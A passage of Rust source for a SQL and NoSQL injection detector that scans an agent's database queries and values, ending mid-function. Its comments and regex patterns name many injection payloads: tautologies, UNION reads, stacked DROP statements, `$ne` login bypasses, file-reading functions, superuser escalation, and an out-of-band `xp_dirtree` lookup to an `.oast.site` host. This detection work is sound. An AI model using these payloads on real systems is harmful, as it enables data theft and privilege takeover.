//! SQL injection: the `sqlparser` tokenizer over the text, then tautologies,
//! UNION reads, stacked statements, blind and out-of-band functions, and
//! NoSQL operator injection.
//!
//! A string is read in one of two modes:
//! - a *whole statement* (it starts with `SELECT`, `WITH`, `INSERT`...): the
//!   agent writes SQL to a database tool. Comments, `UNION ALL`, CTEs and
//!   `WHERE 1=1` are normal there; only what legitimate work never does is
//!   flagged (sleep and benchmark functions, file and out-of-band functions,
//!   a destructive statement stacked after a read, a quoted-literal
//!   tautology, keywords split by comments).
//! - a *value* (a name, an id, a search box, a filter value): the text is
//!   tokenized as it stands (a number context), and again as if an opening
//!   single or double quote preceded it (the string context a value is pasted
//!   into). SQL right after the point where the value breaks out of its
//!   literal (`' OR '1'='1`, `1 UNION SELECT`, `admin'--`, `'; DROP`) is
//!   injection.
//!
//! A statement must have a statement's grammar (or parse) outside a SQL
//! field; in a SQL field (`q`, `query`) a short text that does not parse is
//! read both ways (search boxes are often named `q`). A URL's query
//! parameters are values of their own.
//!
//! NoSQL: operator objects written as text under a credential field
//! (`"password": {"$ne": null}`), `user[$ne]=` query strings, `$where`
//! JavaScript, match-anything or enumerating `$regex` values, an empty `$gt`;
//! operator keys by themselves are weak evidence (their parent field is
//! read from `field` when the walker provides it) except for login tools.
//!
//! Cost: regex gates (finite automata) decide whether any tokenization is
//! needed (most prose is never tokenized), values are tokenized up to 8 KiB
//! and statements up to 64 KiB, every scan moves forward, the parser runs at
//! most once per value (a `UNION SELECT` in prose) and with a recursion
//! limit. Long prose documents and multi-line source code are not analyzed.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;
use regex::bytes::Regex as BytesRegex;
use sqlparser::ast::{SetExpr, Statement};
use sqlparser::dialect::{Dialect, GenericDialect, MsSqlDialect, MySqlDialect, PostgreSqlDialect};
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, TokenWithSpan, Tokenizer, Whitespace};

use super::{Confidence, Context, Family, Hit, Subject};

/// Longest value tokenized in value mode (injected values are short; a
/// long string is read in windows no longer than this).
const MAX_VALUE: usize = 8 * 1024;
const _: () = assert!(MAX_VALUE >= super::WINDOW);
/// Longest statement tokenized in statement mode.
const MAX_STATEMENT: usize = 64 * 1024;
/// Longest statement given to the parser by [`read_only`].
const MAX_PARSE: usize = 64 * 1024;
/// Parser recursion limit for [`read_only`] (the crate's default is 50).
const RECURSION_LIMIT: usize = 40;

/// What a token is, simplified for the rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// An unquoted word (keyword or identifier), upper-cased.
    Word,
    /// A quoted identifier (backticks, brackets, ANSI double quotes).
    Ident,
    /// A string literal (content as written).
    Str,
    /// A number.
    Num,
    /// An operator or other punctuation (`=`, `||`, `@`...).
    Op,
    /// `;`
    Semi,
    /// `(`
    LParen,
    /// `)`
    RParen,
    /// `,`
    Comma,
    /// `.`
    Period,
    /// A comment (text without its delimiters).
    Comment,
}

/// One token: kind, text (upper-cased for words), byte range in the subject.
#[derive(Debug, Clone)]
struct Tok {
    kind: Kind,
    text: String,
    at: Range<usize>,
}

impl Tok {
    /// This unquoted word.
    fn is(&self, word: &str) -> bool {
        self.kind == Kind::Word && self.text == word
    }
    /// One of these unquoted words.
    fn is_any(&self, words: &[&str]) -> bool {
        self.kind == Kind::Word && words.contains(&self.text.as_str())
    }
    /// This operator.
    fn is_op(&self, op: &str) -> bool {
        self.kind == Kind::Op && self.text == op
    }
    /// A string, a number, `TRUE`, `FALSE` or `NULL`.
    fn literal(&self) -> bool {
        matches!(self.kind, Kind::Str | Kind::Num) || self.is_any(&["TRUE", "FALSE", "NULL"])
    }
}

/// Tokenizes `src` with `dialect`; byte ranges are shifted back by `skip`
/// (a synthetic prefix) and clamped to `len`. A tokenizer error (an
/// unterminated literal) keeps the tokens before it.
fn lex(src: &str, skip: usize, len: usize, dialect: &dyn Dialect) -> Vec<Tok> {
    let mut buf: Vec<TokenWithSpan> = Vec::new();
    let _partial = Tokenizer::new(dialect, src).with_unescape(false).tokenize_with_location_into_buf(&mut buf);
    // Line/column locations to byte offsets, advancing one cursor (tokens come in order).
    let mut chars = src.char_indices().peekable();
    let (mut line, mut col) = (1u64, 1u64);
    let mut to_byte = |l: u64, c: u64| -> usize {
        while (line, col) < (l, c) {
            match chars.next() {
                Some((_, '\n')) => {
                    line += 1;
                    col = 1;
                }
                Some(_) => col += 1,
                None => return src.len(),
            }
        }
        chars.peek().map_or(src.len(), |(i, _)| *i)
    };
    let mut out: Vec<Tok> = Vec::with_capacity(buf.len());
    let mut dash_end = 0usize;
    for t in buf {
        let start = to_byte(t.span.start.line, t.span.start.column);
        let end = to_byte(t.span.end.line, t.span.end.column).max(start);
        let at = start.saturating_sub(skip).min(len)..end.saturating_sub(skip).min(len);
        let (kind, text) = match t.token {
            Token::EOF => continue,
            Token::Whitespace(Whitespace::SingleLineComment { comment, .. }) => (Kind::Comment, comment),
            Token::Whitespace(Whitespace::MultiLineComment(c)) => (Kind::Comment, c),
            Token::Whitespace(_) => continue,
            Token::Word(w) if w.quote_style.is_none() => (Kind::Word, w.value.to_ascii_uppercase()),
            Token::Word(w) => (Kind::Ident, w.value),
            Token::Number(n, _) => (Kind::Num, n),
            Token::SingleQuotedString(s)
            | Token::DoubleQuotedString(s)
            | Token::NationalStringLiteral(s)
            | Token::EscapedStringLiteral(s)
            | Token::HexStringLiteral(s)
            | Token::SingleQuotedByteStringLiteral(s)
            | Token::DoubleQuotedByteStringLiteral(s)
            | Token::UnicodeStringLiteral(s) => (Kind::Str, s),
            Token::DollarQuotedString(d) => (Kind::Str, d.value),
            Token::SemiColon => (Kind::Semi, String::new()),
            Token::LParen => (Kind::LParen, String::new()),
            Token::RParen => (Kind::RParen, String::new()),
            Token::Comma => (Kind::Comma, String::new()),
            Token::Period => (Kind::Period, String::new()),
            other => (Kind::Op, other.to_string()),
        };
        if start < dash_end {
            continue;
        }
        // `--` right before the end or a quote is a comment to the engines
        // that do not require a space after it (MySQL's tokenizer does).
        if kind == Kind::Op
            && text == "-"
            && start > 0
            && src.as_bytes().get(start - 1) == Some(&b'-')
            && let Some(prev) = out.last_mut().filter(|p| p.kind == Kind::Op && p.text == "-")
        {
            prev.kind = Kind::Comment;
            dash_end = src.get(start..).and_then(|r| r.find('\n')).map_or(src.len(), |n| start + n);
            prev.text = src.get(start + 1..dash_end).unwrap_or("").to_owned();
            prev.at.end = at.end;
            continue;
        }
        out.push(Tok { kind, text, at });
    }
    out
}

/// Keywords a comment may split (`UN/**/ION`) or a versioned comment may hide.
const SPLIT_KEYWORDS: &[&str] = &[
    "UNION",
    "SELECT",
    "FROM",
    "WHERE",
    "AND",
    "OR",
    "INSERT",
    "UPDATE",
    "DELETE",
    "DROP",
    "SLEEP",
    "BENCHMARK",
    "CONCAT",
    "GROUP_CONCAT",
    "INFORMATION_SCHEMA",
    "ORDER",
    "EXEC",
    "EXECUTE",
    "WAITFOR",
    "DELAY",
    "CHAR",
    "ASCII",
    "SUBSTRING",
    "LOAD_FILE",
    "OUTFILE",
    "TABLE",
    "NULL",
    "VERSION",
    "DATABASE",
    "USER",
    "HAVING",
    "LIMIT",
    "INTO",
    "CAST",
];

/// PostgreSQL's dollar-quoted literals (`$$Q-88$$`, `$t$x$t$`) as
/// single-quoted ones of the same length (`' Q-88' `), so that every rule
/// reads them as the literals they are (`ref=$$Q-88$$ UNION SELECT ...` is
/// the break-out `ref='Q-88' UNION SELECT ...`). `None` when there is none
/// (or a body holds a quote).
fn dollar_quotes(text: &str) -> Option<String> {
    if !super::has(text, "$") || text.len() > MAX_STATEMENT {
        return None;
    }
    let strings = dollar_strings(text);
    if strings.is_empty() {
        return None;
    }
    let b = text.as_bytes();
    let mut out = b.to_vec();
    for d in &strings {
        if b.get(d.body.clone()).is_some_and(|body| body.contains(&b'\'')) {
            return None;
        }
        for (k, c) in out.iter_mut().enumerate().take(d.end).skip(d.start) {
            *c = if k == d.start || k == d.body.end {
                b'\''
            } else if d.body.contains(&k) {
                *c
            } else {
                b' '
            };
        }
    }
    String::from_utf8(out).ok()
}

/// One dollar-quoted string of a text: where it starts and ends (tags
/// included) and its body.
struct DollarString {
    start: usize,
    body: Range<usize>,
    end: usize,
}

/// The dollar-quoted strings of `text`, outermost, in order (`$$...$$`,
/// `$tag$...$tag$`; `$1` is a parameter and `a$b$` part of a name).
fn dollar_strings(text: &str) -> Vec<DollarString> {
    let b = text.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    while let Some(p) = b.get(i..).and_then(|r| r.iter().position(|c| *c == b'$')).map(|p| p + i) {
        // The tag: `$`, letters, digits or `_`, `$`.
        let tag_len = b.get(p + 1..).unwrap_or(&[]).iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
        let tag_end = p + 1 + tag_len;
        let positional = b.get(p + 1).is_some_and(u8::is_ascii_digit);
        if positional || b.get(tag_end) != Some(&b'$') || p > 0 && b.get(p - 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
            i = p + 1;
            continue;
        }
        let Some(tag) = b.get(p..=tag_end) else { break };
        let body_start = tag_end + 1;
        let Some(close) = b.get(body_start..).and_then(|r| r.windows(tag.len()).position(|w| w == tag)).map(|c| c + body_start) else {
            break;
        };
        found.push(DollarString { start: p, body: body_start..close, end: close + tag.len() });
        i = close + tag.len();
    }
    found
}

/// The bodies of the dollar-quoted strings of `text` that run where they
/// stand: after `DO` or `EXECUTE` (a function's body, after `AS`, runs
/// only when called).
fn run_bodies(text: &str) -> Vec<Range<usize>> {
    dollar_strings(text)
        .into_iter()
        .filter(|d| {
            let head = text.get(..d.start).unwrap_or("").trim_end();
            let word = head.rsplit(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("");
            word.eq_ignore_ascii_case("do") || word.eq_ignore_ascii_case("execute")
        })
        .map(|d| d.body)
        .collect()
}

/// Removes comments that split a word (`UN/**/ION` becomes `UNION`) and
/// opens MySQL versioned comments (`/*!50000UNION*/` becomes ` UNION `).
/// Returns the rewritten text (or `None` when there is nothing to do) and
/// the hits the rewriting itself is evidence of.
fn uncomment(text: &str, out: &mut Vec<(Confidence, &'static str, Range<usize>)>) -> Option<String> {
    if !super::has(text, "/*") {
        return None;
    }
    let b = text.as_bytes();
    let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    let mut res = String::with_capacity(text.len());
    let mut i = 0;
    let mut changed = false;
    // Both searches move forward only: linear in the text.
    while let Some(p) = text.get(i..).and_then(|t| t.find("/*")) {
        let open = i + p;
        let Some(q) = text.get(open + 2..).and_then(|t| t.find("*/")) else { break };
        let close = open + 2 + q + 2;
        let inner = text.get(open + 2..close - 2).unwrap_or("");
        res.push_str(text.get(i..open).unwrap_or(""));
        if let Some(v) = inner.strip_prefix('!') {
            let body = v.trim_start_matches(|c: char| c.is_ascii_digit());
            let upper = body.to_ascii_uppercase();
            if upper.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).any(|w| SPLIT_KEYWORDS.contains(&w)) {
                out.push((Confidence::High, "sql.versioned-comment", open..close));
            }
            res.push(' ');
            res.push_str(body);
            res.push(' ');
            changed = true;
        } else if open > 0 && b.get(open - 1).is_some_and(|c| word(*c)) && b.get(close).is_some_and(|c| word(*c)) {
            // Joined word: the word part before and after the comment.
            // (Keywords are short: at most 24 bytes on each side are looked at.)
            let r = res.as_bytes();
            let left = r.iter().rev().take(24).take_while(|c| word(**c)).count();
            let right = b.get(close..).unwrap_or(&[]).iter().take(24).take_while(|c| word(**c)).count();
            let mut joined = Vec::with_capacity(left + right);
            joined.extend_from_slice(r.get(r.len() - left..).unwrap_or(&[]));
            joined.extend_from_slice(b.get(close..close + right).unwrap_or(&[]));
            joined.make_ascii_uppercase();
            if SPLIT_KEYWORDS.iter().any(|k| k.as_bytes() == joined.as_slice()) {
                out.push((Confidence::High, "sql.comment-split-keyword", open..close));
            } else {
                // No keyword joined: MySQL reads the comment as a blank
                // (`7731/**/AND(ASCII(...`).
                res.push(' ');
            }
            changed = true;
        } else {
            res.push_str(text.get(open..close).unwrap_or(""));
        }
        i = close;
    }
    res.push_str(text.get(i..).unwrap_or(""));
    changed.then_some(res)
}

/// Whether the text may hold anything a value-mode rule looks for.
static VALUE_TRIGGER: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
    BytesRegex::new(
        r#"(?i-u)['"`;#]|--|/\*|\|\||@@|union\s*(?:all|distinct)?\s*\(?\s*select|\b(?:union|sleep|benchmark|waitfor|xp_[a-z]+|sp_oa[a-z]+|load_file|outfile|dumpfile|utl_[a-z]+|dbms_[a-z]+|pg_[a-z_]+|lo_import|lo_export|extractvalue|updatexml|randomblob|sys_eval|sys_exec|openrowset|opendatasource|information_schema|httpuritype)\b|\b(?:or|and|xor|having|by|limit|like|rlike|regexp)\s*[-(\d!@]|\(\s*select\b|\b(?:or|and|xor)\s+(?:true|not|exists|ascii|substr\w*|mid|ord|if|iif|case|sleep|char|select)\b"#,
    )
    .ok()
});

/// Function and procedure names of the time, file and network rules.
static DANGER: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
    BytesRegex::new(
        // (No word boundaries: a gate may over-match, and plain literals let the
        // regex engine search with a fast prefilter.)
        r"(?i-u)sleep|benchmark|waitfor|xp_|sp_oa|sp_execute_external_script|load_file|outfile|dumpfile|utl_|dbms_|pg_read_|pg_ls_dir|pg_stat_file|lo_import|lo_export|extractvalue|updatexml|gtid_|randomblob|sys_eval|sys_exec|openrowset|opendatasource|openquery|dblink|load_extension|httpuritype|ctxsys|copy|fn_|unload|export\s+data|into\s+(?:table\s+)?function|into\s+@",
    )
    .ok()
});
/// A value that starts like `1 OR`, `5) AND`, `id;`, or holds `UNION` or `;`.
static BARE_HEAD: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
    BytesRegex::new(r"(?i-u)^\s*-?\s*[\w.]+\s*\)*\s*(?:(?:or|xor|and|rlike|regexp|like|order|group|having)\b|\|\||&&)|union|;|@@").ok()
});
/// What may follow the quote a value breaks out of.
static BREAK_HEAD: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
    BytesRegex::new(r#"(?i-u)^\s*\)*\s*(?:(?:or|and|xor|union|order|group|having|limit|procedure|into|waitfor|where|rlike|regexp|like|select|insert|update|delete|drop|exec|execute|declare|truncate|shutdown)\b|[;#|&^+*=<>!/-]|,\s*\(|,\s*[`"\[]?[a-z_][a-z0-9_.`"\]]*\s*=)"#).ok()
});

/// Whether a text is worth any SQL analysis in statement mode. (A hex
/// literal before `UNION`, `owner=0x61646d696e UNION`, is a quoted one
/// written without quotes: the lexer gives both as a string.)
static STATEMENT_TRIGGER: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
    BytesRegex::new(
        r#"(?i-u)'\s*(?:--|\#)[^\n]*['"]|'\s*union\b|\b0x[0-9a-f]+\s*union\b|\b(?:and|or)\s+(?:ascii|ord|substr\w*|mid|length|if|iif|unicode|char|exists|hex)\s*\(|;\s*(?:(?:/\*[^*]*\*+(?:[^/*][^*]*\*+)*/|--[^\n]*\n|\#[^\n]*\n)\s*)*(?:drop|truncate|shutdown|exec|execute|grant|declare|waitfor|revoke|kill|reconfigure|alter|create|delete|update|insert|replace|merge|copy|set|load|call)\b|\b(?:or|xor)\s*\(*\s*(?:['"\d]|true\b|not\b)|\|\|\s*\(*\s*['"\d]|['"]\s*\+\s*n?['"]|\bconcat\s*\(\s*['"]|\bunion\s+(?:all\s+|distinct\s+)?\(?\s*select\s+(?:null|\d)|\bunion\s+(?:all\s+)?select\b[^;]{0,300}?\b(?:version|user|database|current_user|system_user|session_user|db_name|user_name|schema|current_database|banner)\b|@@|\b(?:sleep|benchmark|waitfor|xp_[a-z]+|sp_oa[a-z]+|sp_execute_external_script|load_file|outfile|dumpfile|utl_[a-z]+|dbms_[a-z]+|pg_sleep\w*|pg_read_[a-z_]+|pg_ls_dir|pg_stat_file|lo_import|lo_export|extractvalue|updatexml|gtid_\w+|randomblob|sys_eval|sys_exec|openrowset|opendatasource|openquery|dblink\w*|load_extension|program|httpuritype|fn_\w+)\b|\bvacuum\b[^;]{0,64}?\binto\b|\battach\b|\b(?:read_text|read_blob)\b|\bfile\s*\(\s*'|\b(?:to|into)\s+'\s*(?:s3a?|gs|gcs|azure|az|abfss?|wasbs?|adl|https?|s?ftps?|r2|hf|hdfs|webhdfs|oss|cosn?|obs|b2|s3n|lakefs)://|\b(?:to|into)\s*/\*|\bunload\s*\(|\bexport\s+(?:data|database|table)\b|\binsert\s+into\s+(?:table\s+)?function\b|\binto\s+'?@|\binsert\s+overwrite\s+(?:local\s+)?directory\b|\b(?:external_)?location\s*=?\s*['"]|\bpath['"]?\s*=?\s*['"]\s*[a-z0-9]+://|\bengine\s*=\s*\w+\s*\(|\bbackup\s+(?:table|database|all|dictionary|temporary)\b|\bquery_export_to_s3\b|\b(?:pg_shadow|pg_authid|sql_logins|syslogins|global_priv|mysql`?\s*\.\s*`?user)\b|\buser\$"#,
    )
    .ok()
});

/// NoSQL operator injection written as JSON text or a query string.
static NOSQL_AUTH_JSON: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)["']?(?:user(?:_?name)?|login|e?mail|pass(?:word|wd)?|pwd|passcode|token|otp|pin|secret|auth\w*|session\w*|api_?key|role|is_?admin|account|uid)["']?\s*:\s*\{\s*["']?\$(?:ne|gt|gte|lt|lte|regex|exists|nin|in|not|where|expr|or|nor|eq)\b"#).ok()
});
/// `user[$ne]=` and friends in a query string.
static NOSQL_BRACKET: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)(\w*)\]?\[\$(ne|gt|gte|lt|lte|regex|exists|nin|in|not|where|eq|expr|or|nor)\]").ok());
/// A bare operator object in a string (`{"$ne": null}`).
static NOSQL_OBJECT: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"^\s*\{\s*["']?\$(ne|gt|gte|lt|lte|regex|exists|nin|where|expr|or|nor|not)["']?\s*:"#).ok());
/// A `$where` (or `$function`) clause with JavaScript in JSON text.
static NOSQL_WHERE_JS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)["']?\$(?:where|function|accumulator)["']?\s*:\s*["'{][^\n]{0,200}?(?:return|sleep\s*\(|this\.|while\s*\(|==|\|\||function\s*\()"#).ok()
});
/// JavaScript that a `$where` value should never hold.
static JS_BAD: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)\breturn\s+(?:true|1|!0)\b|\bsleep\s*\(\s*\d|\bwhile\s*\(\s*(?:true|1)\s*\)|\bthis\.(?:pass\w*|pwd|token|secret|username|user)|\|\||==|\bdb\.\w+\.|\bprocess\.|\brequire\s*\(").ok()
});
/// Field names that hold credentials or identities.
static AUTH_FIELD: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)^(?:user(?:_?name)?|login|e?mail|pass(?:word|wd)?|pwd|passcode|token|otp|pin|secret|api_?key|role|is_?admin|account|uid)$",
    )
    .ok()
});

/// Whether a (compiled) regex matches; a regex that failed to compile matches nothing.
fn matches(re: &LazyLock<Option<Regex>>, text: &str) -> bool {
    re.as_ref().is_some_and(|r| r.is_match(text))
}

/// SQL findings in `s`.
/// OData and similar filter languages (`Name eq 'x'`): an `or` whose
/// condition compares a value with itself (`or 1 eq 1`, `or ('1' eq '1'`)
/// is a tautology, like `OR 1=1` in SQL.
fn odata(text: &str, out: &mut Vec<Hit>) {
    // (Every rule below needs the operator `eq` between blanks, in any
    // case: `eQ` and a tab are read as the server reads them. A text
    // without a `q` is passed over after one test.)
    let b = text.as_bytes();
    if text.len() > MAX_STATEMENT
        || memchr::memchr2(b'q', b'Q', b).is_none()
        || !b.windows(4).any(|w| {
            w[0].is_ascii_whitespace() && w[1].eq_ignore_ascii_case(&b'e') && w[2].eq_ignore_ascii_case(&b'q') && w[3].is_ascii_whitespace()
        })
    {
        return;
    }
    let lower = text.to_ascii_lowercase();
    let words: Vec<(usize, &str)> = lower
        .split_inclusive(|c: char| c.is_whitespace() || c == '(' || c == ')')
        .scan(0usize, |pos, w| {
            let start = *pos;
            *pos += w.len();
            Some((start, w.trim_end_matches(|c: char| c.is_whitespace() || c == '(' || c == ')')))
        })
        .filter(|(_, w)| !w.is_empty())
        .collect();
    for (k, (at, w)) in words.iter().enumerate() {
        // `or substringof('a',Password) eq true`, `startswith(tolower(Password),'a')`:
        // a secret column probed one character at a time through the
        // filter. (A quoted argument is a literal searched for:
        // `contains(Title,'password')`.)
        let column = |arg: &str| {
            arg.split(',').any(|a| {
                let a = a.trim();
                !a.starts_with(['\'', '"']) && SECRET_COLUMNS.contains(&a.rsplit('/').next().unwrap_or(a))
            })
        };
        if matches!(*w, "substringof" | "startswith" | "endswith" | "contains" | "indexof" | "substring" | "matchespattern")
            && words.iter().skip(k + 1).take(2).any(|(_, arg)| column(arg))
        {
            out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.boolean-blind", *at..(*at + 64).min(text.len())));
            return;
        }
        if *w != "or" {
            continue;
        }
        let (Some((_, a)), Some((_, op)), Some((end, b))) = (words.get(k + 1), words.get(k + 2), words.get(k + 3)) else { continue };
        let unquote = |x: &str| x.trim_matches(|c| c == '\'' || c == '"').to_owned();
        if *op == "eq" && unquote(a) == unquote(b) && !unquote(a).is_empty() {
            out.push(Hit::new(Family::SqlInjection, Confidence::High, "sql.tautology", *at..end + b.len()));
            return;
        }
    }
}

pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
    analyze_nested(s, out, 0);
}

/// [`analyze`], `depth` levels inside the bodies of `DO` blocks.
fn analyze_nested(s: &Subject<'_>, out: &mut Vec<Hit>, depth: usize) {
    let before = out.len();
    analyze_text(s, out, false);
    // Dollar-quoted literals read as literals too; the text as written is
    // still judged.
    if dollar_quotes(s.text).is_some() {
        analyze_text(s, out, true);
    }
    // The body of a `DO` block, or of a string `EXECUTE` runs, is
    // statements that run now (`DO $x$BEGIN EXECUTE $y$SELECT
    // pg_read_file(...)$y$; END$x$`): judged as SQL of their own too.
    if depth < 3 && matches!(s.context, Context::Sql | Context::Unknown) && super::has(s.text, "$") {
        // (Every body: four harmless `DO` blocks before the one that reads
        // a file hid it when only 4 were read. The bodies are disjoint, and
        // the nesting is bounded: the work stays linear.)
        for body in run_bodies(s.text) {
            let Some(text) = s.text.get(body.clone()) else { continue };
            // An account raised to superuser (or past row security) by code
            // the block runs (`DO $x$BEGIN EXECUTE
            // $y$ALTER USER app_ro WITH SUPERUSER$y$; END$x$`): written
            // this way it passes as a read's harmless appendix. After
            // another statement, High; a block of its own asks for a human.
            if depth == 0
                && let Some(at) = escalation(text)
            {
                let appended = !s.text.trim_start().get(..2).is_some_and(|w| w.eq_ignore_ascii_case("do"));
                let c = if appended { Confidence::High } else { Confidence::Medium };
                out.push(Hit::new(Family::SqlInjection, c, "sql.privilege-write", at.start + body.start..at.end + body.start));
            }
            let inner = Subject { text, context: Context::Sql, ..*s };
            let mut found = Vec::new();
            analyze_nested(&inner, &mut found, depth + 1);
            out.extend(found.into_iter().map(|mut h| {
                h.at = h.at.start + body.start..h.at.end + body.start;
                h
            }));
        }
    }
    // A search language's quoted terms (`index=waf ("UNION SELECT" OR
    // "' OR 1=1")` in Splunk, `| where Url has "' OR 1=1"` in KQL,
    // `message:"UNION SELECT"` in Lucene) are strings it looks for in
    // records: no SQL runs them.
    if out.len() > before && depth == 0 && search_query(s) {
        let terms = quoted_terms(s.text);
        for h in out.iter_mut().skip(before).filter(|h| terms.iter().any(|r| r.start <= h.at.start && h.at.start < r.end)) {
            h.confidence = Confidence::Low;
        }
    }
    // A multi-line script that starts with a statement (a migration, a
    // stored procedure, a DBA runbook) separates its statements and may
    // pause on purpose: those two signals are an injection's only in a value.
    if out.len() > before && is_script(s.text) {
        for h in out.iter_mut().skip(before) {
            if matches!(h.rule, "sql.stacked-statement" | "sql.time-blind") {
                h.confidence = Confidence::Low;
            } else if h.rule == "sql.privilege-write" {
                // A runbook that elevates someone still asks for a human.
                h.confidence = h.confidence.min(Confidence::Medium);
            }
        }
    }
}

/// Where `text` makes an account a superuser or lets it bypass row-level
/// security (`ALTER USER x WITH SUPERUSER`, `CREATE ROLE x BYPASSRLS`): the
/// statement's head, up to its `;` or the end. (A replication role is a
/// standby's everyday set-up.) Literals joined by `||` are read joined
/// (`EXECUTE 'ALTER USER app WITH ' || 'SUPER' || 'USER'`).
fn escalation(text: &str) -> Option<Range<usize>> {
    escalation_written(text).or_else(|| {
        if !text.contains("||") {
            return None;
        }
        let (joined, map) = join_literals(text);
        let at = escalation_written(&joined)?;
        Some(map.get(at.start).copied().unwrap_or(0)..map.get(at.end).copied().unwrap_or(text.len()))
    })
}

/// `text` without its block comments (MySQL's executable `/*! */` and
/// optimizer hints `/*+ */` are kept), `--` comments and runs of
/// whitespace, each replaced by one space; an unterminated block comment
/// ends it. Read by bytes, not tokens: a value injected into a literal has
/// its quotes unbalanced, and the view is an extra one (see
/// [`Decoding::Condensed`](super::Decoding::Condensed)).
pub(super) fn condensed(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = String::with_capacity(text.len().min(super::WINDOW));
    let mut i = 0;
    let mut from = 0;
    let space = |out: &mut String, from: usize, to: usize| {
        out.push_str(text.get(from..to).unwrap_or(""));
        if !out.ends_with(' ') {
            out.push(' ');
        }
    };
    while i < b.len() {
        match b[i] {
            b'/' if b.get(i + 1) == Some(&b'*') && !matches!(b.get(i + 2), Some(b'!' | b'+')) => {
                space(&mut out, from, i);
                match memchr::memmem::find(b.get(i + 2..).unwrap_or(&[]), b"*/") {
                    Some(end) => i += end + 4,
                    None => return out,
                }
            }
            b'-' if b.get(i + 1) == Some(&b'-') => {
                space(&mut out, from, i);
                i = memchr::memchr(b'\n', b.get(i..).unwrap_or(&[])).map_or(b.len(), |n| i + n + 1);
            }
            c if c.is_ascii_whitespace() => {
                space(&mut out, from, i);
                i += 1;
                while b.get(i).is_some_and(u8::is_ascii_whitespace) {
                    i += 1;
                }
            }
            _ => {
                i += 1;
                continue;
            }
        }
        from = i;
    }
    out.push_str(text.get(from..).unwrap_or(""));
    out
}

/// Longest expression of an `EXECUTE` that [`executed_strings`] parses:
/// longer ones are [`Executed::unread`].
const MAX_EXECUTED: usize = 8 * 1024;

/// What a text executes as dynamic SQL (see [`executed_strings`]).
#[derive(Debug, Default)]
struct Executed {
    /// Each constant string executed, with the span of its statement.
    strings: Vec<(String, Range<usize>)>,
    /// The span of the first `EXECUTE` not evaluated for its size: an
    /// expression longer than [`MAX_EXECUTED`], or strings that together
    /// grow past the folding budget (four times the text, plus 16 KiB).
    unread: Option<Range<usize>>,
    /// Each expression that is no constant and builds a host name
    /// (`'master..xp_dirtree "\\' + @h + '.oast.site\a"'`): its literals
    /// joined, a variable's place kept by one letter, with the span of its
    /// statement.
    built: Vec<(String, Range<usize>)>,
}

/// The strings `text` executes as SQL (`EXECUTE <expr>`, `EXECUTE
/// IMMEDIATE <expr>`, `EXEC (<expr>)`) whose expression evaluates to a
/// constant, each with the span of its statement: sqlparser parses the
/// expression, and [`constant`] folds literals in every quoting (`E'...'`,
/// `$q$...$q$`, BigQuery's double quotes), casts, `||` and `+`, and the
/// string functions that rebuild a keyword (`chr(85)`, `concat`, `format`,
/// `replace`, `upper`, `lower`).
///
/// Every `EXECUTE` is read, however many come before. An expression ends
/// at the next `EXECUTE` as well as at its statement's end, so that the
/// expressions parsed are disjoint and the work linear in the text; one
/// too long to read, or folding past the budget, is reported rather than
/// passed over.
fn executed_strings(text: &str) -> Executed {
    let mut out = Executed::default();
    let mut budget = text.len().saturating_mul(4).saturating_add(16 * 1024);
    executed_in(text, None, 0, &mut budget, &mut out);
    out
}

/// [`executed_strings`] of `text`, and of the literals in it that hold a
/// body (`DO $$ ... $$`, a function's `AS $f$ ... $f$`: one level), whose
/// statements are reported at `outer` when given.
fn executed_in(text: &str, outer: Option<&Range<usize>>, level: usize, budget: &mut usize, out: &mut Executed) {
    if !super::has_ascii_ci(text, "exec") {
        return;
    }
    let t = lex(text, 0, text.len(), &PostgreSqlDialect {});
    if level == 0 {
        // (The bodies are disjoint literals: lexed once more in all.)
        for body in t.iter().filter(|x| x.kind == Kind::Str && x.text.len() > 8) {
            executed_in(&body.text, Some(&body.at), 1, budget, out);
        }
    }
    let mut i = 0;
    while i < t.len() {
        let Some(x) = t.get(i).filter(|x| x.is_any(&["EXECUTE", "EXEC"])) else {
            i += 1;
            continue;
        };
        let first = if t.get(i + 1).is_some_and(|y| y.is("IMMEDIATE")) { i + 2 } else { i + 1 };
        // The expression: up to the statement's `;` (or a PL/pgSQL `END`,
        // `USING`, `INTO`), or the next `EXECUTE`.
        let mut depth = 0i32;
        let mut last = None;
        let mut next = t.len();
        for (k, y) in t.iter().enumerate().skip(first) {
            match y.kind {
                Kind::LParen => depth += 1,
                Kind::RParen => depth -= 1,
                Kind::Semi if depth <= 0 => {}
                _ if y.is_any(&["EXECUTE", "EXEC"]) => {}
                _ if depth <= 0 && y.is_any(&["END", "USING", "INTO"]) => {}
                _ => {
                    if y.kind != Kind::Comment {
                        last = Some(k);
                    }
                    continue;
                }
            }
            if y.kind == Kind::LParen || y.kind == Kind::RParen {
                last = Some(k);
                continue;
            }
            next = k;
            break;
        }
        i = next.max(i + 1);
        let at = outer.cloned().unwrap_or_else(|| x.at.start..last.and_then(|k| t.get(k)).map_or(x.at.end, |y| y.at.end));
        let (Some(start), Some(end)) = (t.get(first).map(|y| y.at.start), last.and_then(|k| t.get(k)).map(|y| y.at.end)) else { continue };
        let Some(source) = text.get(start..end) else { continue };
        if source.len() > MAX_EXECUTED {
            out.unread.get_or_insert(at);
